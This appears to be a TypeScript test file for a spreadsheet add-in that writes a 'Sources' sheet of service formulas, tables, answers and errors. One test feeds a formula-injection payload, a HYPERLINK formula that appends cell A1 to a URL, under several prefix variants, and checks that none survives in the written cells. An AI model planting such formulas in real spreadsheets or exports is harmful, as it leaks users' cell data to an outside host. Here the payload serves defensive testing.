import { createCallLog } from "../../../src/core/call-log";
import { failed, type Answer, type Outcome } from "../../../src/core/outcome";
import type { Question } from "../../../src/core/question";
import { sourcesWorkOf, writeSources } from "../../../src/pane/inspect/sources-sheet";
import type { PaneHost } from "../../../src/pane/pane-host";
import { type Workbook } from "../../../src/pane/workbook";
import { WorkbookRefusal } from "../../../src/workbook/workbook-refusal";
import type { Content } from "../../../src/workbook/edits/sheet-edits";
import { memoryText, type TableMemory } from "../../../src/tables/memory";
import type { FormulaCell } from "../../../src/workbook/cell";

const NOW = Date.UTC(2024, 5, 28, 12);
const known: Answer = { value: 1, caveats: [], sample: false, maxAgeS: 60, receivedAt: NOW, source: "treasury" };

interface Book {
  readonly host: PaneHost;
  readonly asked: Question[];
  readonly sheets: Map<string, readonly (readonly Content[])[]>;
  readonly settings: Map<string, string>;
}

/** A book with these formulas in column A, and a service with these answers. */
function book(formulas: readonly string[], options: { answers?: (question: Question) => Outcome; last?: Answer; refuse?: string; asOf?: string } = {}): Book {
  const asked: Question[] = [];
  const sheets: Book["sheets"] = new Map();
  const settings = new Map<string, string>();
  const cells: FormulaCell[] = formulas.map((formula, row) => ({ sheet: "Sheet1", row, column: 0, formula, value: 1, text: "1" }));
  const workbook = {
    serviceCells: async () => cells,
    shown: async (places: readonly { sheet: string }[]) =>
      places.map(({ sheet }) => {
        if (sheet !== "Sheet1" && !sheets.has(sheet)) throw new WorkbookRefusal(`There is no sheet ${sheet}.`);
        return { value: sheets.get(sheet)?.[0]?.[0] ?? null, text: "" };
      }),
    writeSheet: async (name: string, rows: readonly (readonly Content[])[], how?: { replace?: boolean }) => {
      if (options.refuse) throw new WorkbookRefusal(options.refuse);
      const free = !how?.replace && sheets.has(name) ? `${name} 2` : name;
      sheets.set(free, rows);
      return free;
    },
    settings: { read: (name: string) => settings.get(name), write: async (name: string, text: string) => void settings.set(name, text) },
  } as unknown as Workbook;
  const host = {
    now: () => NOW,
    asOf: () => options.asOf,
    workbook: () => workbook,
    onChange: () => () => undefined,
    cells: {
      callLog: createCallLog(),
      last: () => options.last,
      ask: async (question: Question) => {
        asked.push(question);
        return options.answers?.(question) ?? { kind: "answer", answer: known };
      },
    },
  } as unknown as PaneHost;
  return { host, asked, sheets, settings };
}

/** What the writing of the sources says. */
async function written(host: PaneHost): Promise<string> {
  const ended = await writeSources(host, "workbook");
  return ended.kind === "done" ? ended.result.message : ended.kind === "failed" ? ended.message : ended.kind;
}

describe("writing the sources of a workbook to a sheet", () => {
  it("lists the tables of the workbook too, with their question, rows and sources", async () => {
    const { host, sheets, settings } = book([], { asOf: "2024-06-20" });
    const memory: TableMemory = {
      id: "t1",
      kind: "history",
      asked: { series: "DGS10", start: "2024-06-17", end: "" },
      orientation: "down",
      notes: ["Treasury constant maturity, 10 years (DGS10)", "SAMPLE DATA, not real."],
      gone: [],
      at: NOW,
      sample: true,
      columns: [{ id: "date", heading: "Date", key: true }],
      rows: [[45_460], [45_461]],
    };
    settings.set("service.tables", "t1 t2");
    settings.set("service.table.t1", memoryText(memory));
    settings.set("service.table.t2", memoryText({ ...memory, id: "t2" }));
    Object.assign(host.workbook()!, {
      blocks: {
        find: async (names: string[]) =>
          names.map((name) => (name === "_service_table_t1" ? { sheet: "Rates", row: 2, column: 0, rows: 3, columns: 1 } : undefined)),
      },
    });
    expect(await written(host)).toBe("Written to the sheet Sources: 1 row.");
    expect(sheets.get("Sources")?.[1]?.[0]).toContain("The whole workbook as of 2024-06-20: 0 questions in 0 cells and 1 table");
    expect(sheets.get("Sources")?.[2]?.[0]).toContain("SAMPLE DATA: 1 row is generated");
    expect(sheets.get("Sources")?.[4]).toEqual([
      "Table",
      "Rates!A3:A5",
      "History of a series: Series DGS10, Start 2024-06-17",
      "2 rows",
      "",
      "",
      "",
      "",
      "SAMPLE DATA, not real.",
      "",
      "yes",
      "2024-06-28 12:00 UTC",
    ]);
  });

  it("writes one row per figure, and fetches only questions without a cached answer", async () => {
    const { host, asked, sheets } = book(['=SERVICE.FRED("DGS10")', '=SERVICE.FRED("dgs10")*2', '=SERVICE.FRED("DGS2")']);
    expect(await written(host)).toBe("Written to the sheet Sources: 2 rows.");
    expect(asked).toHaveLength(2);
    expect(
      sheets
        .get("Sources")
        ?.slice(4)
        .map((row) => row[1]),
    ).toEqual(["Sheet1!A1:A2", "Sheet1!A3"]);
    const all = book(['=SERVICE.FRED("DGS10")'], { last: known });
    await written(all.host);
    expect(all.asked).toEqual([]);
  });

  it("writes the 2,500 questions of 10,000 cells, and reports progress", async () => {
    const { host, asked, sheets } = book(Array.from({ length: 10_000 }, (_, i) => `=SERVICE.PRICE("T${i % 2_500}")`));
    const totals: (number | undefined)[] = [];
    const work = sourcesWorkOf(host);
    work.onChange(() => totals.push(work.state().working?.of));
    await written(host);
    expect(asked).toHaveLength(2_500);
    expect(sheets.get("Sources")).toHaveLength(2_504);
    expect(totals).toContain(2_500);
    expect(work.state()).toMatchObject({ result: { sheet: "Sources" } });
  });

  it("replaces the Sources sheet that it wrote before, but no other sheet of that name", async () => {
    const own = book(['=SERVICE.FRED("DGS10")']);
    await written(own.host);
    await written(own.host);
    expect([...own.sheets.keys()]).toEqual(["Sources"]);
    own.sheets.set("Sources", [["My own notes"]]);
    await written(own.host);
    expect([...own.sheets.keys()]).toEqual(["Sources", "Sources 2"]);
    expect(own.sheets.get("Sources")).toEqual([["My own notes"]]);
    own.sheets.delete("Sources 2");
    expect(await written(own.host)).toContain("Sources 2");
  });

  it("writes no text of the service that a spreadsheet would read as a formula", async () => {
    const evil = '=HYPERLINK("http://127.0.0.1/?"&A1)';
    for (const sign of ["=", "+", "-", "@", "\t=", "\r\n=", "\uff1d"]) {
      const text = `${sign}${evil.slice(1)}`;
      const answer: Answer = { ...known, value: text, unit: text, observationDate: text, asOf: text, source: text, attribution: text, caveats: [text] };
      for (const answers of [() => ({ kind: "answer" as const, answer }), () => failed({ code: "argument", message: text })]) {
        const { host, sheets } = book(['=SERVICE.FRED("DGS10")'], { answers });
        await written(host);
        const cells = sheets.get("Sources")?.flat() ?? [];
        expect(cells.length).toBeGreaterThan(40);
        for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d]/);
      }
    }
  });

  it("explains each missing answer in its row, and counts them in a sentence", async () => {
    const { host, sheets } = book(['=SERVICE.FRED("DGS10")'], { answers: () => failed({ code: "timeout" }) });
    expect(await written(host)).toContain("No answer in 1 row; the Value column says why.");
    expect(sheets.get("Sources")?.[4]?.[3]).toBe("no answer: The service did not answer in time. Press Refresh.");
  });

  it("writes nothing and says why if there is no known question or the workbook is protected", async () => {
    const none = book([]);
    expect(await written(none.host)).toContain("No SERVICE formulas");
    const calculated = book(["=SERVICE.PRICE(A1&B1)"]);
    expect(await written(calculated.host)).toContain("not known yet");
    const refused = book(['=SERVICE.FRED("DGS10")'], { refuse: "The workbook's structure is protected. Unprotect it, then write the sources." });
    expect(await written(refused.host)).toBe("The workbook's structure is protected. Unprotect it, then write the sources.");
    for (const { sheets } of [none, calculated, refused]) expect(sheets.size).toBe(0);
  });

  it("can be stopped, and does not start again while it runs", async () => {
    const { host, sheets } = book(['=SERVICE.FRED("DGS10")']);
    const first = written(host);
    const second = written(host);
    sourcesWorkOf(host).stop();
    expect([await first, await second]).toEqual(["stopped", "stopped"]);
    expect(sheets.size).toBe(0);
    expect(await written(host)).toContain("Written");
  });
});
